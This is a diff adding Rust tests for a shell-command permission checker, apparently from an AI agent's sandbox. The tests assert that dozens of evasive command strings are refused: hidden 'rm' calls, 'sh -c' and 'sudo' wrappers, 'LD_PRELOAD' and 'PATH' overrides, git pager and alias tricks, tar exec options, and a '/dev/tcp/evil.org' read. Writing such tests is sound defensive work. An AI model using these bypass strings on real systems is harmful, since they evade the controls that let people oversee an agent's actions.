@@ -1,0 +1,440 @@
+//! The traps, by name.
+
+use kiwi_model::Permissions;
+use std::path::Path;
+
+use super::*;
+use crate::permission::{Layer, PermissionContext};
+
+struct Yard {
+    folder: tempfile::TempDir,
+}
+
+impl Yard {
+    fn new() -> Self {
+        let folder = tempfile::tempdir().unwrap();
+        let yard = Self { folder };
+        for program in [
+            "git", "rm", "ls", "cat", "echo", "env", "sh", "xargs", "find", "tar", "awk", "true", "grep",
+            "sort",
+        ] {
+            yard.program(&format!("bin/{program}"));
+        }
+        std::fs::create_dir(yard.root().join("project")).unwrap();
+        yard
+    }
+
+    fn root(&self) -> std::path::PathBuf {
+        self.folder.path().canonicalize().unwrap()
+    }
+
+    fn program(&self, path: &str) {
+        use std::os::unix::fs::PermissionsExt as _;
+        let path = self.root().join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, "").unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+
+    fn link(&self, to: &str, at: &str) {
+        std::os::unix::fs::symlink(self.root().join(to), self.root().join(at)).unwrap();
+    }
+
+    /// Everything that is said against a command.
+    fn said(
+        &self,
+        allowed: &[&str],
+        judge: impl Fn(&Setting<'_>) -> Vec<crate::permission::Need>,
+    ) -> Vec<String> {
+        let project = self.root().join("project");
+        let search = format!("{0}/bin:{0}/project/bin", self.root().display());
+        let setting = Setting { search_path: &search, cwd: &project, project: &project };
+        let list = |list: &[&str]| list.iter().map(|text| (*text).to_owned()).collect();
+        let permissions = Permissions {
+            shell_commands: list(allowed),
+            filesystem_read: list(&["in/**"]),
+            filesystem_write: list(&["out/**"]),
+            ..Permissions::default()
+        };
+        let layer = Layer::new("the profile `test`", &permissions, &project).unwrap();
+        let context = PermissionContext::everything().and(layer);
+        let needs = judge(&setting);
+        assert!(PermissionContext::everything().judge(&needs).is_empty(), "a person may do everything");
+        context.judge(&needs).iter().map(crate::Objection::sentence).collect()
+    }
+
+    #[track_caller]
+    fn allows(&self, allowed: &[&str], text: &str) {
+        let said = self.said(allowed, |setting| needs_of_text(text, setting));
+        assert!(said.is_empty(), "{text:?} with {allowed:?}: {said:?}");
+    }
+
+    #[track_caller]
+    fn refuses(&self, allowed: &[&str], text: &str, because: &str) {
+        let said = self.said(allowed, |setting| needs_of_text(text, setting));
+        assert!(said.iter().any(|said| said.contains(because)), "{text:?} with {allowed:?}: {said:?}");
+    }
+}
+
+#[test]
+fn lists_pipes_groups_and_newlines_are_judged_command_by_command() {
+    let yard = Yard::new();
+    let git = &["git"];
+    yard.allows(git, "git status");
+    yard.allows(git, "git status && git diff || git log; git show | git apply & git gc");
+    for text in [
+        "git status; rm -rf x",
+        "git status;rm -rf x",
+        "git status && rm x",
+        "git status || rm x",
+        "git status | rm x",
+        "git status & rm x",
+        "git status\nrm x",
+        "git status\n\n  rm x",
+        "(rm x)",
+        "{ rm x; }",
+        "git status; (git log; (rm x))",
+        "! rm x",
+        "if git status; then rm x; fi",
+        "while git status; do rm x; done",
+        "for x in a b; do rm $x; done",
+        "for x in a # '\ndo rm x # '\ndone",
+        "case x in a) git status;; *) rm x;; esac",
+        "case x in a) git status;; *) rm x; esac",
+        "git status # nothing\nrm x",
+        "git status \\\n; rm x",
+        "git status #'\nrm x #'",
+    ] {
+        yard.refuses(git, text, "shell_commands of `rm");
+    }
+    // A comment is none in the middle of a word, and hides nothing behind it.
+    yard.allows(git, "git status # ; rm x");
+    yard.refuses(git, "git status a#b; rm x", "rm x");
+}
+
+#[test]
+fn spelling_hides_no_program() {
+    let yard = Yard::new();
+    for text in ["\\rm x", "r''m x", "\"rm\" x", "'rm' x", "r\\m x", "r\\\nm x", "/../bin/rm x", "\"r\"'m' x"]
+    {
+        yard.refuses(&["git"], text, "is not allowed by the profile `test`");
+    }
+    yard.refuses(&["git"], "$'rm' x", "cannot be judged");
+    yard.refuses(&["git"], "$'\\x72m' x", "cannot be judged");
+    yard.refuses(&["git"], "$X x", "cannot be judged: which program runs");
+    yard.refuses(&["git"], "${X} x", "cannot be judged: which program runs");
+    yard.refuses(&["git"], "$(echo rm) x", "cannot be judged: which program runs");
+    yard.refuses(&["git"], "\"$X\" x", "cannot be judged");
+    yard.refuses(&["git"], "g*t x", "cannot be judged");
+    yard.refuses(&["git"], "{rm,-rf,x}", "cannot be judged");
+    yard.refuses(&["git"], "~/rm x", "cannot be judged");
+    // Look-alikes are other names: a Cyrillic letter, a full-width one, a space that is none.
+    for text in ["g\u{456}t status", "\u{ff47}it status", "git\u{200b} status"] {
+        yard.refuses(&["git"], text, "is not allowed");
+    }
+    for text in ["git\u{a0}status", "git status\r", "git\u{7}"] {
+        yard.refuses(&["*"], text, "cannot be judged");
+    }
+}
+
+#[test]
+fn substitutions_and_here_documents_are_judged_too() {
+    let yard = Yard::new();
+    let some = &["git", "cat", "echo"];
+    for text in [
+        "git log $(rm x)",
+        "git log \"$(rm x)\"",
+        "git log `rm x`",
+        "git log \"`rm x`\"",
+        "git log \"$(echo `rm x`)\"",
+        "git log `echo \\`rm x\\``",
+        "git log $(git log $(rm x))",
+        "X=$(rm x)",
+        "git log ${X:-$(rm x)}",
+        "cat <(rm x)",
+        "cat > >(rm x)",
+        "cat <<EOF\n$(rm x)\nEOF",
+        "cat <<EOF\n`rm x`\nEOF",
+        "cat <<EOF\ntext\nEOF\nrm x",
+        "cat <<-EOF\n\ttext\n\tEOF\nrm x",
+        "cat <<'EOF'\n$(git)\nEOF\nrm x",
+        "cat <<EOF; (\nEOF\ntrue)\nrm x\nEOF",
+        "cat <<A <<B\nA\nB\nrm x",
+        "cat <<<\"$(rm x)\"",
+        "echo $((1 + $(rm x)))",
+        "echo $(case x in x) rm x;; esac)",
+    ] {
+        let said = yard.said(some, |setting| needs_of_text(text, setting));
+        assert!(!said.is_empty(), "{text:?}");
+    }
+    yard.allows(some, "cat <<'EOF'\n$(rm x); `rm x`\nEOF");
+    yard.allows(some, "cat <<EOF\nrm x\nEOF\ngit status");
+    yard.allows(some, "echo 'rm; $(rm x)' \"; rm x\" $((1 + 2))");
+    yard.allows(some, "cat <<< 'rm x'");
+    // Data that feeds a shell is a program.
+    yard.refuses(some, "sh <<EOF\nrm x\nEOF", "shell_commands of `sh` is not allowed");
+    yard.refuses(some, "echo 'rm x' | sh", "shell_commands of `sh` is not allowed");
+    for open in ["cat <<EOF\nrm x", "git 'x", "git \"x", "git `x", "git $(x", "(git", "git \\"] {
+        yard.refuses(&["*"], open, "cannot be judged");
+    }
+}
+
+#[test]
+fn wrappers_are_judged_by_what_they_run() {
+    let yard = Yard::new();
+    for text in [
+        "env X=Y rm x",
+        "env -i rm x",
+        "env -u A -- rm x",
+        "/usr/bin/env rm x",
+        "sh -c 'rm x'",
+        "sh -ec 'git status; rm x'",
+        "bash -c 'sh -c \"rm x\"'",
+        "timeout 5 rm x",
+        "timeout -k 1 -s KILL 5 rm x",
+        "nice -n 5 rm x",
+        "nohup rm x",
+        "setsid rm x",
+        "time rm x",
+        "command rm x",
+        "exec rm x",
+        "builtin rm x",
+        "xargs rm",
+        "git ls-files | xargs -0 rm -f",
+        "git ls-files | xargs -I% rm %",
+        "find . -exec rm {} \\;",
+        "find . -execdir rm {} +",
+        "find . -ok rm {} \\;",
+        "find . -delete",
+        "watch -n 1 rm x",
+        "busybox rm x",
+        "env env nice sh -c 'timeout 1 rm x'",
+        "sudo rm x",
+    ] {
+        let said = yard.said(&["git", "find", "sudo", "true"], |setting| needs_of_text(text, setting));
+        assert!(said.iter().any(|said| said.contains("shell_commands of `rm")), "{text:?}: {said:?}");
+    }
+    for text in ["env X=Y git status", "sh -c 'git status'", "timeout 5 git status"] {
+        yard.allows(&["git"], text);
+    }
+    yard.allows(&["git", "cat"], "git ls-files | xargs cat");
+    // A name in the input may be an option.
+    yard.refuses(&["git"], "git ls-files | xargs git add", "cannot be judged");
+    yard.refuses(&["git"], "sudo git status", "of `sudo");
+    yard.allows(&["find", "cat"], "find . -name '*.rs' -exec cat {} +");
+    for text in [
+        "env -S 'rm x'",
+        "env $X rm",
+        "eval 'rm x'",
+        ". ./script",
+        "source x",
+        "trap 'rm x' EXIT",
+        "alias git=rm",
+        "ssh host rm x",
+        "sh -c \"$X\"",
+        "sh -c '\"$0\"' rm",
+        "bash --rcfile x -c git",
+        "git() { rm x; }; git status",
+        "function git { rm x; }",
+        "xargs -I% % x",
+        "find . $X",
+        "timeout $X git",
+        "[[ -v x ]]",
+        "((x))",
+        "git &> out/x",
+        "let x=1",
+    ] {
+        yard.refuses(&["*"], text, "cannot be judged");
+    }
+}
+
+#[test]
+fn variables_that_change_what_runs_are_never_set() {
+    let yard = Yard::new();
+    for text in [
+        "PATH=/tmp git status",
+        "PATH=/tmp",
+        "PATH+=:/tmp git status",
+        "LD_PRELOAD=./x.so git status",
+        "IFS=x git status",
+        "BASH_ENV=x sh -c git",
+        "ENV=x git",
+        "GIT_SSH_COMMAND='rm x' git fetch",
+        "GIT_PAGER=rm git log",
+        "PYTHONPATH=. git",
+        "env PATH=/tmp git status",
+        "env LD_PRELOAD=x git status",
+        "export PATH=/tmp; git status",
+        "read PATH; git status",
+        "unset PATH",
+        "for PATH in /tmp; do git status; done",
+        "git ${PATH:=/tmp}",
+        "P\\\nATH=/tmp git status",
+        "sh -c 'PATH=/tmp git'",
+    ] {
+        yard.refuses(&["*"], text, "is never allowed: setting");
+    }
+    yard.allows(&["git"], "X=1 LANG=C git status");
+    yard.allows(&["git"], "GIT_AUTHOR_NAME=x git commit");
+    yard.refuses(&["*"], "\"PATH\"=/tmp git status", "cannot be judged");
+}
+
+#[test]
+fn redirections_need_their_files() {
+    let yard = Yard::new();
+    yard.allows(&["git"], "git diff > out/x 2>&1 < in/y 2>/dev/null");
+    yard.allows(&["git"], "git diff >> out/x; git log >| out/y");
+    yard.refuses(&["git"], "git diff > secret", "filesystem_write of");
+    yard.refuses(&["git"], "git diff > out/../secret", "filesystem_write of");
+    yard.refuses(&["git"], "> secret", "filesystem_write of");
+    yard.refuses(&["git"], "(git diff) > secret", "filesystem_write of");
+    yard.refuses(&["git"], "if git; then git; fi > secret", "filesystem_write of");
+    yard.refuses(&["git"], "git apply < secret", "filesystem_read of");
+    yard.refuses(&["git"], "git apply <> out/x", "filesystem_read of");
+    yard.refuses(&["git"], "git diff > $X", "cannot be judged");
+    yard.refuses(&["git"], "git diff > out/*", "cannot be judged");
+    yard.refuses(&["git"], "git diff >& secret", "cannot be judged");
+    yard.refuses(&["git", "cd"], "cd /etc; git diff > out/x", "depends on a change of folder");
+    yard.refuses(
+        &["git", "cd"],
+        "while true; do git diff > out/x; cd ..; done",
+        "depends on a change of folder",
+    );
+    yard.refuses(&["find"], "find . -fprint secret", "filesystem_write of");
+    yard.refuses(&["cat"], "cat < /dev/tcp/evil.org/80", "cannot be judged");
+}
+
+#[test]
+fn an_entry_may_name_first_words_and_git_is_held_to_itself() {
+    let yard = Yard::new();
+    let status = &["git status", "git log"];
+    yard.allows(status, "git status --short; git log");
+    for text in ["git push", "git", "git -C x status", "git $X", "git \"status$X\"", "git stat*"] {
+        let said = yard.said(status, |setting| needs_of_text(text, setting));
+        assert!(!said.is_empty(), "{text}");
+    }
+    for text in [
+        "git -c alias.x='!rm' x",
+        "git -c core.pager=rm log",
+        "git --exec-path=/tmp status",
+        "git --config-env=core.pager=X log",
+        "git fetch --upload-pack=rm",
+        "git fetch --upload=rm",
+        "git rebase -x 'rm x' main",
+        "git clone -c core.hooksPath=x y",
+        "git config alias.x '!rm'",
+        "git config core.pager rm",
+        "git submodule foreach rm",
+        "git bisect run rm",
+        "git clone ext::rm",
+        "git log $X",
+        "tar --checkpoint-action=exec=rm -cf x y",
+        "tar --checkpoint-a=exec=rm -cf x y",
+        "tar -I rm -xf x",
+        "tar xIf rm x",
+    ] {
+        yard.refuses(&["*"], text, "cannot be judged");
+    }
+    yard.allows(&["git"], "git switch -c topic; git commit -m 'a message'; git log \"HEAD..x\"");
+    // An interpreter that is listed may do whatever it is told.
+    yard.allows(&["awk"], "awk 'BEGIN { system(\"rm x\") }'");
+}
+
+#[test]
+fn a_program_is_the_one_that_the_path_finds() {
+    let yard = Yard::new();
+    let words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
+    let said =
+        |allowed: &[&str], argv: &[&str]| yard.said(allowed, |setting| needs_of_words(&words(argv), setting));
+    assert!(said(&["git"], &["git", "status"]).is_empty());
+    assert!(!said(&["git"], &["rm", "x"]).is_empty());
+    assert!(!said(&["git"], &["git;rm", "x"]).is_empty());
+    assert!(!said(&["git"], &["env", "rm", "x"]).is_empty());
+    // Of the same name, but not the one that would be found.
+    yard.program("evil/git");
+    assert!(!said(&["git"], &[yard.root().join("evil/git").to_str().unwrap()]).is_empty());
+    let found = yard.root().join("bin/git");
+    assert!(said(&["git"], &[found.to_str().unwrap(), "status"]).is_empty());
+    assert!(said(&[found.to_str().unwrap()], &["git", "status"]).is_empty());
+    // A link is what it leads to.
+    yard.link("bin/rm", "project/git");
+    assert!(!said(&["git"], &["./git", "x"]).is_empty());
+    yard.link("bin/git", "bin/git-link");
+    assert!(said(&["git"], &["git-link", "x"]).is_empty());
+    yard.link("bin/env", "bin/harmless");
+    assert!(!said(&["harmless"], &["harmless", "rm", "x"]).is_empty());
+    // What lies in the project has a path and no name.
+    yard.program("project/bin/lint");
+    assert!(!said(&["lint"], &["lint"]).is_empty());
+    assert!(said(&["bin/lint"], &["lint"]).is_empty());
+    assert!(said(&["*"], &["lint"]).is_empty());
+    assert!(!said(&[], &["git"]).is_empty());
+}
+
+#[test]
+fn a_refused_program_stays_refused_however_it_is_called() {
+    let yard = Yard::new();
+    let project = yard.root().join("project");
+    let search = format!("{}/bin", yard.root().display());
+    let setting = Setting { search_path: &search, cwd: &project, project: &project };
+    let permissions = Permissions {
+        shell_commands: vec!["*".into()],
+        deny: vec!["shell_commands:rm".into(), "git push".into()],
+        ..Permissions::default()
+    };
+    let context = PermissionContext::everything().and(Layer::new("x", &permissions, Path::new("/")).unwrap());
+    let is_refused = |text: &str| !context.judge(&needs_of_text(text, &setting)).is_empty();
+    for text in ["rm x", "/bin/rm x", "sh -c 'rm x'", "git push", "git -C x push", "git log; git push origin"]
+    {
+        assert!(is_refused(text), "{text}");
+    }
+    assert!(!is_refused("git log") && !is_refused("ls"));
+}
+
+#[test]
+fn no_text_stops_the_parser() {
+    let pieces = [
+        "git",
+        " ",
+        "$(",
+        "`",
+        ")",
+        "(",
+        "'",
+        "\"",
+        "<<E",
+        "\n",
+        "E",
+        ";",
+        "${",
+        "}",
+        "\\",
+        "&&",
+        "|",
+        "case x in",
+        "esac",
+        ";;",
+        "#",
+        "for x in",
+        "do",
+        "done",
+        ">",
+        "{",
+        "\u{e9}",
+        "$((",
+        "=",
+        "*",
+    ];
+    let mut seed = 1_u64;
+    for _ in 0..30_000 {
+        let mut text = String::new();
+        for _ in 0..12 {
+            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+            text.push_str(pieces[usize::try_from((seed >> 33) % pieces.len() as u64).unwrap()]);
+        }
+        let _ = parse::parse(&text);
+    }
+    assert!(parse::parse(&"$(".repeat(10_000)).is_err());
+    assert!(parse::parse(&"(".repeat(10_000)).is_err());
+    assert!(parse::parse(&format!("{}x", "! ".repeat(10_000))).is_ok());
+}
